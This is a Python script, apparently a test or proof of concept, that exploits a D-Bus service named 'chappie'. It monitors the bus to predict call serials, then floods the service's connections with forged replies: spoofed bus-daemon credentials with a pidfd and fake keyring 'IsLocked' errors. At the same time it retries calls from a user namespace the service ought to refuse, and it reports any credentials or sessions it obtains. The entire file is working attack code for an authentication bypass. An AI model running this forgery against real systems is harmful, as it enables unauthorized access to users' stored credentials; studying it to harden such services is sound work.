#!/usr/bin/env python3
"""Forges replies to the service's calls, and prints as JSON what that obtains.

    forger.py ADDRESS SECONDS     in a user namespace of its own, so that the service refuses it

One process floods the service's connections with replies to the calls that they will send next: credentials of the bus
daemon, with a pidfd of it, and the keyring's failures. It knows the serials as every program of the user does, by
monitoring the bus. This process calls the service meanwhile, as a new caller each time.
"""

import json
import math
import os
import signal
import sys
import time

from bus.chappie import CHAPPIE, ROOT, CallFailed, Caller, Unanswered, options
from bus.connection import BUS, DESTINATION, ERROR, ERROR_NAME, REPLY, REPLY_SERIAL, UNIX_FDS, Connection, Gone, build
from bus.marshal import Variant, marshal

# The number of calls that are answered in advance.
AHEAD = 16
# The bus holds at most 16 descriptors of messages that it has not read to the end.
PASSED = 4


def bus_call(caller, member, *arguments):
    return caller.call("/org/freedesktop/DBus", BUS, member, "s" * len(arguments), arguments, to=BUS)[0]


def connections(caller):
    """The unique names of the service's connections."""
    service = bus_call(caller, "GetConnectionUnixProcessID", CHAPPIE)
    found = []
    for name in bus_call(caller, "ListNames"):
        try:
            if name.startswith(":") and bus_call(caller, "GetConnectionUnixProcessID", name) == service:
                found.append(name)
        except CallFailed:
            pass  # It has left meanwhile.
    return found


def forged(target, serial, signature, body, error=None, descriptors=0):
    fields = {REPLY_SERIAL: Variant("u", serial), DESTINATION: Variant("s", target)}
    if error:
        fields[ERROR_NAME] = Variant("s", error)
    return build(ERROR if error else REPLY, 1, 0, fields, signature, body, descriptors) + body


def flood(address, targets, daemon, parent):
    """Sends forged replies until it is killed, or until its parent was."""
    Connection.deadline = math.inf
    pidfd = os.pidfd_open(daemon)
    facts = marshal("a{sv}", [{"UnixUserID": Variant("u", os.getuid()), "ProcessID": Variant("u", daemon),
                               "ProcessFD": Variant("h", 0)}])
    locked = marshal("s", ["forged"])
    serials = dict.fromkeys(targets, 1)
    with Connection(address) as connection, Connection(address) as monitor:
        rules = [f"type='method_call',sender='{target}'" for target in targets]
        monitor.call("/org/freedesktop/DBus", BUS + ".Monitoring", "BecomeMonitor", "asu", [rules, 0], to=BUS)
        while os.getppid() == parent:
            try:
                while call := monitor.next_message(0.0001):
                    if call.sender in serials:
                        serials[call.sender] = call.serial
            except Unanswered:
                pass
            connection.take_replies()
            for target, last in serials.items():
                guesses = range(last + 1, last + 1 + AHEAD)
                for start in range(0, AHEAD, PASSED):
                    some = guesses[start:start + PASSED]
                    connection.write(b"".join(forged(target, each, "a{sv}", facts, descriptors=1) for each in some),
                                     [pidfd] * len(some))
                connection.write(b"".join(forged(target, each, "s", locked, "org.freedesktop.Secret.Error.IsLocked")
                                          for each in guesses))


def attempts(address):
    """What a new caller obtains that the service must refuse."""
    obtained = []
    with Caller(address, timeout=5) as caller:
        for name, act in {
            "GetAll": lambda: caller.call(ROOT, BUS + ".Properties", "GetAll", "s", ["org.chappie.Session"]),
            "OpenSession": lambda: caller.open_session(),
            "ListCredentials": lambda: caller.manager("ListCredentials", "a{sv}", [options()]),
            "Send": lambda: caller.send(ROOT, "hi"),
        }.items():
            try:
                obtained.append(f"{name}: {act()}"[:200])
            except CallFailed as failure:
                if "AccessDenied" not in failure.name:
                    obtained.append(f"{name}: {failure}"[:200])
    return obtained


def main():
    address = sys.argv[1]
    with Caller(address) as caller:
        targets, daemon = connections(caller), bus_call(caller, "GetConnectionUnixProcessID", BUS)
    end = time.monotonic() + float(sys.argv[2])
    Connection.deadline = end + 0.5
    parent = os.getpid()
    flooder = os.fork()
    if not flooder:
        try:
            flood(address, targets, daemon, parent)
        finally:
            os._exit(1)
    rounds, obtained = 0, []
    try:
        while not obtained and time.monotonic() < end:
            rounds += 1
            try:
                obtained = attempts(address)
            except (Gone, Unanswered):
                pass  # The bus is busy with the flood.
    finally:
        has_flooded = os.waitpid(flooder, os.WNOHANG)[0] == 0
        if has_flooded:
            os.kill(flooder, signal.SIGKILL)
            os.waitpid(flooder, 0)
    print(json.dumps({"rounds": rounds, "calls": Connection.calls, "flooded": has_flooded, "obtained": obtained}))


if __name__ == "__main__":
    main()
